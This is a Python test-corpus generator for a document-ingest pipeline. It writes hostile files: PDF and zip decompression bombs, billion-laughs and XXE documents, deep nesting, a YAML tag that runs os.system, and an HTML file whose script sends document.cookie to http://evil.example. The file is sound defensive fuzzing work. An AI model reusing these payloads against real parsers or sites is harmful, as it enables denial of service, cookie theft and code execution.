"""A corpus of malicious and broken files for the ingest pipeline.

    python tests/hostile.py OUTDIR      # writes the corpus, prints name -> expected outcome

``make_all(folder)`` writes every file into ``folder`` and returns ``{file name: expected}``,
where ``expected`` is one of

* ``"failed"``   -- must be refused with a reason (and nothing of it indexed);
* ``"ingested"`` -- is harmless once parsed and must be indexed (e.g. HTML with scripts:
  the text goes in, the script does not);
* ``"either"``   -- refusing and ingesting what can be read are both correct (a truncated
  PDF may still hold readable pages); only "reported, bounded, no crash" is required.

Nothing here needs the network or a model; every file is small on disk (the biggest, the
million-kids page tree, is about 6 MB) however large it claims to be. Text that must never
reach the index (script bodies, an XXE target, JavaScript) carries a marker from
``FORBIDDEN``; text that must be found carries a marker from ``REQUIRED``.
"""
from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Callable

try:                                   # imported as tests.hostile (pytest) or run as a script
    from tests import filemakers as fm
except ImportError:                    # pragma: no cover
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    import filemakers as fm  # type: ignore[no-redef]

FAILED, INGESTED, EITHER = "failed", "ingested", "either"

# markers: never anywhere in the index; and (file name -> marker) what must be findable once ingested
FORBIDDEN = ["SCRIPTMARKER", "IFRAMEMARKER", "STYLEMARKER", "TEMPLATEMARKER", "OBJECTMARKER",
             "SVGMARKER", "PDFJSMARKER", "XXESECRET4711", "LAUGHLOL"]
REQUIRED = {"html_scripts.html": "Spielplatzsanierung", "js_action.pdf": "Haushaltssatzung",
            "encrypted_aes256_no_user_password.pdf": "Aesoffen", "yaml_bomb.md": "Lachgasverordnung",
            "yaml_python_tag.md": "Tagesordnungspunkt", "sidecar_bomb.txt": "Seitenwagenregel"}
SECRET_FILE = ".xxe-secret.txt"      # hidden: ingest's discovery skips it, only an XXE could read it


# --- a minimal PDF writer (fpdf2 cannot write broken files) -----------------------------

FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def _text_ops(text: str, y: int = 720) -> bytes:
    safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return b"BT /F1 12 Tf 72 %d Td (%s) Tj ET\n" % (y, safe.encode("latin-1"))


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _page(contents: int = 4, parent: int = 2, extra: bytes = b"") -> bytes:
    return (b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources %s %s>>"
            % (parent, contents, FONT, extra))


def pdf_bytes(objects: list[bytes], *, root: int | None = 1, trailer: bytes = b"", prev_self: bool = False,
              size: int | None = None) -> bytes:
    """Objects numbered from 1 with a correct xref table; ``prev_self`` makes /Prev point at itself."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    entries = b"/Size %d " % (size if size is not None else len(objects) + 1)
    if root is not None:
        entries += b"/Root %d 0 R " % root
    if prev_self:
        entries += b"/Prev %d " % xref
    out += b"trailer\n<< " + entries + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _simple_pdf(text: str, *, page_extra: bytes = b"", catalog_extra: bytes = b"", **kw) -> bytes:
    return pdf_bytes([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
                      b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      _page(extra=page_extra), _stream(_text_ops(text))], **kw)


def flate_zeros(megabytes: int) -> bytes:
    """A valid zlib stream of ``megabytes`` MB of zeros, built without compressing them
    (full-flush blocks of 1 MB compress to identical bytes; the Adler-32 of n zeros is known)."""
    c = zlib.compressobj(9)
    first = c.compress(bytes(2**20)) + c.flush(zlib.Z_FULL_FLUSH)
    block = first[2:]
    n = megabytes * 2**20
    return first + block * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", ((n % 65521) << 16) | 1)


# --- the corpus ---------------------------------------------------------------------------

def _pdfs(folder: Path) -> dict[str, str]:
    out: dict[str, str] = {}
    good = fm.make_pdf(folder / "_tmp_full.pdf", [f"Seite {i}: Bebauungsplan Nummer {i} mit Text." for i in range(6)])
    fm.make_truncated(folder / "truncated.pdf", good, keep=0.5)
    fm.make_truncated(folder / "truncated_header_only.pdf", good, keep=0.02)
    good.unlink()
    out["truncated.pdf"] = EITHER
    out["truncated_header_only.pdf"] = FAILED

    fm.make_pdf(folder / "encrypted_rc4.pdf", ["Geheime Vorlage"], user_password="geheim")
    out["encrypted_rc4.pdf"] = FAILED
    for method in ("AES_128", "AES_256"):
        name = f"encrypted_{method.lower().replace('_', '')}.pdf"
        _fpdf_encrypted(folder / name, "Geheime Vorlage", method, user_password="geheim")
        out[name] = FAILED
    # owner password only: any viewer opens it, so must we (AES needs 'cryptography')
    _fpdf_encrypted(folder / "encrypted_aes256_no_user_password.pdf",
                    "Aesoffen: Die Vorlage ist nur gegen Bearbeiten geschützt.", "AES_256", user_password="")
    out["encrypted_aes256_no_user_password.pdf"] = INGESTED

    # xref whose /Prev points at itself (CVE-2026-27628 class), otherwise fine
    (folder / "xref_prev_loop.pdf").write_bytes(_simple_pdf("Die Schleife im Querverweis.", prev_self=True))
    out["xref_prev_loop.pdf"] = EITHER
    # a page tree that contains itself, and contents that reference themselves
    (folder / "page_tree_loop.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        _page(contents=4), b"4 0 R"]))
    out["page_tree_loop.pdf"] = EITHER
    (folder / "self_reference.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R /Self 1 0 R /Outlines 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
        _page(contents=4), _stream(_text_ops("Selbstbezug im Objektbaum.")),
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Title (Schleife) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R >>"]))
    out["self_reference.pdf"] = EITHER

    depth = 10_000
    (folder / "deep_arrays.pdf").write_bytes(_simple_pdf(
        "Tief verschachtelt.", page_extra=b"/Deep " + b"[" * depth + b"]" * depth + b" "))
    out["deep_arrays.pdf"] = EITHER
    (folder / "deep_dicts.pdf").write_bytes(_simple_pdf(
        "Tief verschachtelt.", page_extra=b"/Deep " + b"<< /A " * depth + b"1" + b" >>" * depth + b" "))
    out["deep_dicts.pdf"] = EITHER

    # decompression bombs: 1 GB in ~1 MB, and 4 GB behind two Flate layers in a few KB
    bomb = flate_zeros(1024)
    (folder / "flate_bomb.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(), _stream(bomb, b"/Filter /FlateDecode ")]))
    out["flate_bomb.pdf"] = FAILED
    nested = zlib.compress(flate_zeros(4096), 9)
    (folder / "flate_bomb_nested.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(), _stream(nested, b"/Filter [/FlateDecode /FlateDecode] ")]))
    out["flate_bomb_nested.pdf"] = FAILED
    # RunLengthDecode: 2 bytes -> 128 bytes; 1.6 MB -> 100 MB (CVE-2026-28351 class)
    rle = b"\x81 " * 800_000 + b"\x80"
    (folder / "runlength_bomb.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(), _stream(rle, b"/Filter /RunLengthDecode ")]))
    out["runlength_bomb.pdf"] = FAILED
    # a Flate bomb in a form XObject next to real text: the text is harmless and may go in
    (folder / "xobject_bomb.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font "
        b"<< /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X1 5 0 R >> >> >>",
        _stream(_text_ops("Formular mit Bombe.") + b"/X1 Do\n"),
        _stream(bomb, b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Filter /FlateDecode ")]))
    out["xobject_bomb.pdf"] = EITHER

    # huge page counts: a /Count lie, and a page tree with a million kids
    (folder / "page_count_lie.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
        _page(), _stream(_text_ops("Eine Seite, die behauptet, eine Milliarde zu sein."))]))
    out["page_count_lie.pdf"] = EITHER
    (folder / "million_kids.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b"3 0 R " * 1_000_000 + b"] /Count 1000000 >>",
        _page(), _stream(_text_ops("Eine Seite, eine Million Mal."))]))
    out["million_kids.pdf"] = FAILED
    # no /Root, huge /Size (CVE-2026-22690 class)
    (folder / "missing_root.pdf").write_bytes(pdf_bytes([b"<< /Type /Pages /Kids [] /Count 0 >>"],
                                                        root=None, size=2_000_000_000))
    out["missing_root.pdf"] = FAILED
    # comment not followed by a character at EOF (GHSA-4vvm-4w3v-6mr8 class)
    (folder / "comment_at_eof.pdf").write_bytes(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\n%")
    out["comment_at_eof.pdf"] = FAILED
    # DCT inline image without EOF marker and without EI (CVE-2025-62707 class)
    dct = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 4
    (folder / "inline_dct_no_eof.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _page(),
        _stream(_text_ops("Bild ohne Ende.") + b"BI /W 8 /H 8 /CS /G /BPC 8 /F /DCT ID " + dct)]))
    out["inline_dct_no_eof.pdf"] = EITHER
    (folder / "zero_pages.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    out["zero_pages.pdf"] = FAILED
    (folder / "header_only.pdf").write_bytes(b"%PDF-1.7\n")      # (one empty file is enough: see empty.txt)
    out["header_only.pdf"] = FAILED
    (folder / "not_a_pdf.pdf").write_bytes(b"<html><body>Fehlgeleitete Seite</body></html>")
    out["not_a_pdf.pdf"] = FAILED
    # JavaScript on open, on page open and in the name tree: text goes in, the script never runs
    js = b"<< /S /JavaScript /JS (app.alert\\('PDFJSMARKER'\\); this.submitForm\\('http://evil.example/'\\);) >>"
    (folder / "js_action.pdf").write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(extra=b"/AA << /O 5 0 R >> "),
        _stream(_text_ops("Haushaltssatzung der Stadt Musterhausen fuer das Jahr 2025.")), js]))
    out["js_action.pdf"] = INGESTED
    return out


def _fpdf_encrypted(path: Path, text: str, method: str, *, user_password: str) -> Path:
    from fpdf import FPDF
    from fpdf.enums import EncryptionMethod

    pdf = FPDF()
    pdf.add_font("DejaVu", fname=str(fm.DEJAVU))
    pdf.add_page()
    pdf.set_font("DejaVu", size=11)
    pdf.multi_cell(170, 6, text)
    pdf.set_encryption(owner_password="eigentuemer", user_password=user_password,
                       encryption_method=getattr(EncryptionMethod, method))
    pdf.output(str(path))
    return path


def _office(folder: Path) -> dict[str, str]:
    out: dict[str, str] = {}
    fm.make_zip_bomb_docx(folder / "docx_zip_bomb.docx", inflated_mb=300)
    out["docx_zip_bomb.docx"] = FAILED
    fm.make_zip_many_entries(folder / "docx_many_entries.docx", entries=20_000)
    out["docx_many_entries.docx"] = FAILED
    _zip_bomb_odt(folder / "odt_zip_bomb.odt", inflated_mb=300)
    out["odt_zip_bomb.odt"] = FAILED
    # XXE: the target is a hidden file in the corpus (never ingested itself)
    secret = fm.make_text(folder / SECRET_FILE, "XXESECRET4711 Passwort des Kämmerers")
    fm.make_external_entity(folder / "docx_xxe.docx", secret)
    out["docx_xxe.docx"] = EITHER
    fm.make_external_entity(folder / "odt_xxe.odt", secret)
    out["odt_xxe.odt"] = EITHER
    _docx_billion_laughs(folder / "docx_billion_laughs.docx")
    out["docx_billion_laughs.docx"] = EITHER
    _odt_deep(folder / "odt_deep_nesting.odt", depth=20_000)
    out["odt_deep_nesting.odt"] = EITHER
    (folder / "not_a_zip.docx").write_bytes(b"%PDF-1.4\n" + b"x" * 100)
    out["not_a_zip.docx"] = FAILED
    (folder / "truncated.odt").write_bytes(_odt_bytes("Abgeschnitten")[:300])
    out["truncated.odt"] = FAILED
    # a valid archive with broken XML inside: odfpy swallows the SAX error, prints the whole part
    # to stdout and returns a document without a body (found by bench/fuzz_loaders.py)
    _rewrite_zip(_odt_bytes("Ohne Rumpf"), folder / "odt_malformed_xml.odt",
                 replace={"content.xml": lambda x: x[:x.index(b"<office:body>")]})
    out["odt_malformed_xml.odt"] = FAILED
    _rewrite_zip(_odt_bytes("Offenes Ende der Vorlage"), folder / "odt_unclosed_xml.odt",
                 replace={"content.xml": lambda x: x.replace(b"</office:text>", b"<text:p>offen")})
    out["odt_unclosed_xml.odt"] = EITHER
    return out


def _odt_bytes(text: str) -> bytes:
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        return fm.make_odt(Path(tmp) / "x.odt", [("p", text)]).read_bytes()


def _rewrite_zip(data: bytes, path: Path, *, replace: dict[str, Callable[[bytes], bytes]] | None = None,
                 add: Callable[[zipfile.ZipFile], None] | None = None) -> Path:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            part = zin.read(info.filename)
            if replace and info.filename in replace:
                part = replace[info.filename](part)
            zout.writestr(info, part)
        if add:
            add(zout)
    Path(path).write_bytes(out.getvalue())
    return Path(path)


def _zip_bomb_odt(path: Path, *, inflated_mb: int) -> Path:
    def bomb(zf: zipfile.ZipFile) -> None:
        with zf.open("Pictures/bomb.bin", "w", force_zip64=True) as entry:
            block = bytes(2**20)
            for _ in range(inflated_mb):
                entry.write(block)
    return _rewrite_zip(_odt_bytes("Harmloser Text"), path, add=bomb)


def _docx_billion_laughs(path: Path) -> Path:
    buf = io.BytesIO()
    fm.make_docx(buf, [("p", "Offen")])  # type: ignore[arg-type]
    ents = '<!ENTITY l0 "LAUGHLOL">' + "".join(
        f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))

    def laughs(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        cut = text.index("?>") + 2
        return (text[:cut] + f"<!DOCTYPE w:document [{ents}]>" + text[cut:]).replace(
            "Offen", "Offen &l9;").encode("utf-8")
    return _rewrite_zip(buf.getvalue(), path, replace={"word/document.xml": laughs})


def _odt_deep(path: Path, *, depth: int) -> Path:
    def deep(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        return text.replace(">Tief<", ">" + "<text:span>" * depth + "Tief" + "</text:span>" * depth + "<",
                            1).encode("utf-8")
    return _rewrite_zip(_odt_bytes("Tief"), path, replace={"content.xml": deep})


def _text(folder: Path, huge_kb: int) -> dict[str, str]:
    out: dict[str, str] = {}
    rnd = random.Random(4711)
    # Latin-1 text with stray bytes (an old export): readable, goes in as cp1252/latin-1
    (folder / "invalid_utf8.txt").write_bytes(
        "Die Straßenreinigungsgebühr für Grundstücke beträgt 2,10 € je Meter. ".encode("cp1252") * 20
        + b"\xc3\x28 \xa0\xa1 \xe2\x82 ende")
    out["invalid_utf8.txt"] = INGESTED
    # high bytes only, no NUL: not UTF-8, and cp1252 leaves C1 controls -> no readable text
    (folder / "invalid_utf8_junk.txt").write_bytes(bytes(rnd.choice([0x81, 0x8d, 0x8f, 0x90, 0x9d, 0xc3, 0xff])
                                                         for _ in range(4096)))
    out["invalid_utf8_junk.txt"] = FAILED
    for name in ("binary.txt", "binary.md", "binary.html"):
        (folder / name).write_bytes(bytes(rnd.randrange(256) for _ in range(8192)))
        out[name] = FAILED
    (folder / "elf.md").write_bytes(Path(sys.executable).resolve().read_bytes()[:65536])
    out["elf.md"] = FAILED
    (folder / "empty.txt").write_bytes(b"")
    out["empty.txt"] = FAILED
    (folder / "whitespace_only.md").write_text("\n\n   \t\n" * 100, encoding="utf-8")
    out["whitespace_only.md"] = FAILED
    # one huge line of words without sentence end or newline, and one without any whitespace
    words = ["Haushalt", "Stadt", "Musterhausen", "Förderung", "Antrag", "Beschluss", "Rat", "Verwaltung"]
    line = " ".join(rnd.choice(words) for _ in range(huge_kb * 1024 // 8))
    (folder / "huge_line.txt").write_text(line[:huge_kb * 1024], encoding="utf-8")
    out["huge_line.txt"] = EITHER
    (folder / "huge_token.md").write_text("A" * (huge_kb * 1024), encoding="utf-8")
    out["huge_token.md"] = EITHER

    html = """<!DOCTYPE html><html><head><title>Spielplatz</title>
<script>var a = "SCRIPTMARKER"; document.location = "http://evil.example/?c=" + document.cookie;</script>
<style>body::after { content: "STYLEMARKER" }</style></head>
<body onload="alert('ONLOADMARKER')">
<h1>Spielplatzsanierung Lindenpark</h1>
<p onclick="steal()">Die Sanierung des Spielplatzes beginnt im April.</p>
<iframe src="http://evil.example/frame">IFRAMEMARKER</iframe>
<iframe srcdoc="<p>IFRAMEMARKER</p>"></iframe>
<object data="http://evil.example/x.swf">OBJECTMARKER</object>
<template><p>TEMPLATEMARKER</p></template>
<svg><script>SVGMARKER</script><text>SVGMARKER</text></svg>
<a href="javascript:alert('SCRIPTMARKER')">Link</a> <img src="x" onerror="alert('SCRIPTMARKER')">
<script type="module">import("http://evil.example/SCRIPTMARKER.js")</script>
<scr<script>ipt>alert(1)</script>
<p>Die Kosten betragen 80.000 Euro.</p>
<embed src="x.swf"><p>after embed</p>
<script>unclosed SCRIPTMARKER
"""
    (folder / "html_scripts.html").write_text(html, encoding="utf-8")
    out["html_scripts.html"] = INGESTED
    (folder / "html_deep_nesting.html").write_text(
        "<html><body>" + "<div>" * 100_000 + "Tiefe Struktur" + "</div>" * 100_000 + "</body></html>",
        encoding="utf-8")
    out["html_deep_nesting.html"] = EITHER

    # YAML "billion laughs" through aliases: safe_load shares the objects, whoever walks them expands 9^9
    laughs = "lol0: &a0 [\"LAUGHLOL\", \"LAUGHLOL\", \"LAUGHLOL\", \"LAUGHLOL\", \"LAUGHLOL\", " \
             "\"LAUGHLOL\", \"LAUGHLOL\", \"LAUGHLOL\", \"LAUGHLOL\"]\n" + "".join(
                 f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
    (folder / "yaml_bomb.md").write_text(
        "---\ntitle: Lachgas\n" + laughs + "---\n# Lachgasverordnung\n\nDie Lachgasverordnung regelt den "
        "Verkauf an Minderjährige.\n", encoding="utf-8")
    out["yaml_bomb.md"] = INGESTED
    (folder / "yaml_python_tag.md").write_text(
        "---\ntitle: !!python/object/apply:os.system [\"touch PWNED_BY_YAML\"]\n---\n"
        "# Tagesordnungspunkt 4\n\nDer Tagesordnungspunkt 4 wird vertagt.\n", encoding="utf-8")
    out["yaml_python_tag.md"] = INGESTED
    (folder / "sidecar_bomb.txt").write_text("Die Seitenwagenregel gilt für alle Dienstfahrzeuge.\n",
                                             encoding="utf-8")
    (folder / "sidecar_bomb.txt.meta.yaml").write_text(laughs, encoding="utf-8")
    out["sidecar_bomb.txt"] = INGESTED
    return out


def make_all(folder: Path, *, huge_kb: int = 2048) -> dict[str, str]:
    """Write the hostile corpus into ``folder``; return ``{file name: expected outcome}``.

    ``huge_kb`` sizes the two huge-line files: they are harmless text, so whatever goes in
    is embedded (about a second per chunk on two busy cores); ingest tests pass a few KB."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = {**_pdfs(folder), **_office(folder), **_text(folder, huge_kb)}
    assert sorted(out) == sorted(p.name for p in folder.iterdir()
                                 if not p.name.startswith(".") and not p.name.endswith(".meta.yaml")), out
    return out


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/hostile.py OUTDIR", file=sys.stderr)
        return 2
    expected = make_all(Path(argv[0]))
    print(json.dumps(expected, indent=2, ensure_ascii=False))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
